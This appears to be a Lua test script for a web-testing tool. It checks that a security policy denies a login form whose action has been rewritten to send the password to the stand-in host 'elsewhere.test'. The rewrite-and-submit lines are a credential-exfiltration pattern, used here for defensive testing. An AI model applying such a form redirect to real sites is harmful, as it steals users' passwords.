-- A form that would send a password elsewhere.
-- expect: policy.host_denied
-- within: 300 ms
-- requests: 1
local s = ...
local html = require "meterkey.html"
local page = s:get("/login")
page:one("form"):set("action", "https://elsewhere.test/take")
local form = page:form()
form.password = s.credentials.password
pcall(s.submit, s, form)
return html
